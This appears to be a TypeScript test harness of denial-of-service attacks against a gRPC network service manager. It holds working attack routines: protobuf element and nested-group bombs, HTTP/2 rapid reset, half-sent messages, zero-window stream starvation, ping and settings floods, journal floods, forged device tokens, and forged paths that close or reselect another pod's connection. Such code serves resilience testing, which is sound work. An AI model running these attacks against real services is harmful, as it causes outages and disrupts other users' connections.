// Attacks by calls: messages that grow, that fail, that never end.

import { randomBytes, randomUUID } from "node:crypto";
import type { ClientHttp2Session } from "node:http2";
import { setTimeout as sleep } from "node:timers/promises";
import { create } from "@bufbuild/protobuf";
import { Client, credentials, Metadata } from "@grpc/grpc-js";
import { type Connection, PathSegmentSchema, State } from "../../../src/gen/connection_pb.ts";
import { manyParts } from "../../scenes/many-parts.ts";
import { closeBytes, repeatedBytes, requestBytes, selectorBytes } from "./messages.ts";
import {
  aborted,
  beginCall,
  doorOf,
  firstOf,
  framed,
  lastMoment,
  METHODS,
  openSession,
  repeatedly,
  sessionOver,
  statusOf,
  tally,
  tokenHeaders,
} from "./session.ts";
import type { Attacker, Identity, Target } from "./target.ts";

/** A session for each identity, made again when it is lost. */
class Sessions {
  readonly #target: Target;
  readonly #open = new Map<Identity, Promise<ClientHttp2Session | undefined>>();

  constructor(target: Target) {
    this.#target = target;
  }

  async of(identity: Identity): Promise<ClientHttp2Session | undefined> {
    const known = await this.#open.get(identity);
    if (known && !known.destroyed && !known.closed) return known;
    const opening = openSession(doorOf(this.#target), identity);
    this.#open.set(identity, opening);
    return await opening;
  }
}

/** The same call again and again by each identity, `atOnce` at a time. */
async function callAgain(
  target: Target,
  signal: AbortSignal,
  {
    atOnce,
    method,
    message,
  }: { atOnce: number; method: string; message: (identity: Identity, at: number) => Uint8Array },
): Promise<string> {
  const sessions = new Sessions(target);
  const { identities } = target;
  const act = async (at: number) => {
    const identity = identities[at % identities.length] ?? firstOf(identities);
    const session = await sessions.of(identity);
    if (!session) return "lost";
    return await statusOf(session, method, message(identity, at), tokenHeaders(identity, doorOf(target)));
  };
  const answers = await repeatedly(target, signal, { atOnce, act });
  return tally(answers);
}

/** Of 2-byte elements: of 4 MB, and as long as is allowed. */
export const largeElementBombs: Attacker = (target, signal) => {
  const bomb = repeatedBytes("1200", 2_000_000);
  return callAgain(target, signal, { atOnce: 3, method: METHODS.request, message: () => bomb });
};

export const elementBombs: Attacker = (target, signal) => {
  const bomb = repeatedBytes("1200", 131_000);
  return callAgain(target, signal, { atOnce: 32, method: METHODS.request, message: () => bomb });
};

/** As many elements as are allowed. */
export const allowedElements: Attacker = (target, signal) => {
  const bomb = repeatedBytes("1200", 8_100);
  return callAgain(target, signal, { atOnce: 256, method: METHODS.request, message: () => bomb });
};

/** Fields that no schema knows. */
export const unknownFields: Attacker = (target, signal) => {
  const bomb = repeatedBytes("f80101", 87_000);
  return callAgain(target, signal, { atOnce: 32, method: METHODS.request, message: () => bomb });
};

/** Groups in groups. */
export const deepGroups: Attacker = (target, signal) => {
  const bomb = Buffer.concat([repeatedBytes("fb01", 60_000), repeatedBytes("fc01", 60_000)]);
  return callAgain(target, signal, { atOnce: 16, method: METHODS.request, message: () => bomb });
};

/** The same on the port of the page, where no identity is needed. */
export const adminBombs: Attacker = async (target, signal) => {
  const { admin } = target;
  const { connect } = await import("node:net");
  const bomb = repeatedBytes("f80101", 1_300_000);
  const act = async () => {
    const session = await sessionOver(connect(admin.port, admin.host).on("error", () => {}));
    if (!session) return "lost";
    const status = await statusOf(session, METHODS.check, bomb);
    session.destroy();
    return status;
  };
  return tally(await repeatedly(target, signal, { atOnce: 3, act }));
};

/** NOOP connections as large as they may be, of each peer that has room left. */
export const largeConnections: Attacker = (target, signal) =>
  callAgain(target, signal, {
    atOnce: 16,
    method: METHODS.request,
    message: (identity) => requestBytes(target, identity, { alter: manyParts }),
  });

/** Small ones, up to the number that is allowed. */
export const manyConnections: Attacker = (target, signal) =>
  callAgain(target, signal, {
    atOnce: 16,
    method: METHODS.request,
    message: (identity) => requestBytes(target, identity),
  });

/** One connection that is another one each time: each answer is a record in the journal. */
export const journalFlood: Attacker = (target, signal) => {
  const ids = target.identities.map(() => randomUUID());
  return callAgain(target, signal, {
    atOnce: 16,
    method: METHODS.request,
    message: (identity, at) =>
      requestBytes(target, identity, {
        id: ids[at % ids.length] ?? "",
        alter: (connection) => {
          for (let label = 0; label < 15; label += 1) connection.labels[label] = randomBytes(1_000).toString("hex");
        },
      }),
  });
};

/** A device that kubelet has given to none. */
export const inventedTokens: Attacker = (target, signal) =>
  callAgain(target, signal, {
    atOnce: 24,
    method: METHODS.request,
    message: (identity) =>
      requestBytes(target, identity, {
        mechanism: "KERNEL",
        parameters: {
          name: "nsm-1",
          tokenID: `sriov-${randomUUID()}`,
          // The manager would wait for the file itself.
          ...(target.way === "direct" && { inodeURL: "inode://4/4026531840" }),
        },
        alter: (connection) => {
          connection.labels = { fill: "x".repeat(3_000) };
        },
      }),
  });

/** As many Requests at once as there may be, each of which fails. */
export const failingCalls: Attacker = (target, signal) =>
  callAgain(target, signal, {
    atOnce: 1_000,
    method: METHODS.request,
    message: (identity) => requestBytes(target, identity, { service: "no-such-service" }),
  });

/** The same with texts that are as long as they may be. */
export const longTexts: Attacker = (target, signal) =>
  callAgain(target, signal, {
    atOnce: 64,
    method: METHODS.request,
    message: (identity, at) => requestBytes(target, identity, { service: `${at}-${"s\u202e".repeat(1_000)}` }),
  });

/** Closes of connections that are not there. */
export const foreignCloses: Attacker = (target, signal) =>
  callAgain(target, signal, {
    atOnce: 64,
    method: METHODS.close,
    message: (identity) => closeBytes(target, identity),
  });

/** Closes, changes and reselects another pod's connection, by its path from the first hop on. */
export const foreignConnection: Attacker = async (target, signal) => {
  const beyond = target.pathOfOther.slice(target.way === "direct" ? 2 : 1);
  const onItsPath = (connection: Connection) => {
    connection.path?.pathSegments.push(...beyond.map((segment) => create(PathSegmentSchema, segment)));
  };
  const reselect = (connection: Connection) => {
    onItsPath(connection);
    connection.state = State.RESELECT_REQUESTED;
  };
  const closing = callAgain(target, signal, {
    atOnce: 4,
    method: METHODS.close,
    message: (identity) => closeBytes(target, identity, { alter: onItsPath }),
  });
  const requesting = callAgain(target, signal, {
    atOnce: 4,
    method: METHODS.request,
    message: (identity, at) => requestBytes(target, identity, { alter: at % 2 === 0 ? onItsPath : reselect }),
  });
  return `closes ${await closing}; requests ${await requesting}`;
};

/** Requests that are begun and given up at once. */
export const rapidReset: Attacker = async (target, signal) => {
  const sessions = new Sessions(target);
  const identity = firstOf(target.identities);
  let count = 0;
  while (!signal.aborted) {
    const session = await sessions.of(identity);
    for (let at = 0; session && at < 100 && !session.destroyed && !session.closed; at += 1) {
      beginCall(session, METHODS.request).close(8);
      count += 1;
    }
    await sleep(5);
  }
  return `${count} given up`;
};

/** Requests whose last byte never comes: on 12 connections of each identity, four as long as they may be. */
export const halfMessages: Attacker = async (target, signal) => {
  const half = framed(Buffer.alloc(255 * 1024), { announcedBytes: 256 * 1024 });
  const opened = await openMany(target, 12, (session) => {
    for (let at = 0; at < 4; at += 1) beginCall(session, METHODS.request).resume().write(half);
  });
  await aborted(signal);
  return `${opened} connections`;
};

/** Streams whose answers may not be sent: a window of none. What they are to hear of changes all the time. */
export const unreadMonitors: Attacker = async (target, signal) => {
  const settings = { settings: { initialWindowSize: 0 } };
  const opened = await openMany(
    target,
    2,
    (session, identity) => {
      for (let at = 0; at < 256; at += 1) {
        beginCall(session, METHODS.monitor, tokenHeaders(identity, doorOf(target))).end(framed(selectorBytes()));
      }
    },
    settings,
  );
  const changed = await journalFlood(target, signal);
  return `${opened} connections; ${changed}`;
};

async function openMany(
  target: Target,
  each: number,
  use: (session: ClientHttp2Session, identity: Identity) => void,
  options = {},
): Promise<number> {
  let opened = 0;
  const limit = lastMoment(target);
  const openEach = async (identity: Identity) => {
    for (let at = 0; at < each && !limit.aborted; at += 1) {
      const session = await openSession(doorOf(target), identity, options);
      if (!session) continue;
      opened += 1;
      use(session, identity);
    }
  };
  await Promise.all(target.identities.map(openEach));
  return opened;
}

/** Frames that must be answered, or at least be looked at, as fast as they go. */
export const frameFlood: Attacker = async (target, signal) => {
  let session = await openSession(doorOf(target), firstOf(target.identities));
  let count = 0;
  while (!signal.aborted && session) {
    for (let at = 0; at < 100 && !session.destroyed && !session.closed; at += 1) {
      session.settings({ initialWindowSize: 65_535 + (count % 2) });
      if (!session.destroyed) session.ping(() => {});
      count += 1;
    }
    await sleep(5);
    if (session.destroyed) session = await openSession(doorOf(target), firstOf(target.identities));
  }
  return `${count} pings and settings`;
};

/** gRPC's own client for Node, which says only what is sound: Checks without end. */
export const grpcJsChecks: Attacker = async (target, signal) => {
  const { certPem, keyPem } = firstOf(target.identities);
  // A certificate of SPIFFE has no host name, and what is said over it here is no secret.
  const secure = credentials.createSsl(null, Buffer.from(keyPem), Buffer.from(certPem), { rejectUnauthorized: false });
  const client = new Client(`unix:${doorOf(target).socket}`, secure);
  const same = (value: Buffer) => value;
  const act = () =>
    new Promise<string>((resolve) => {
      client.makeUnaryRequest(METHODS.check, same, same, Buffer.alloc(0), new Metadata(), (error) =>
        resolve(String(error?.code ?? 0)),
      );
    });
  const answers = await repeatedly(target, signal, { atOnce: 256, act });
  client.close();
  return tally(answers);
};
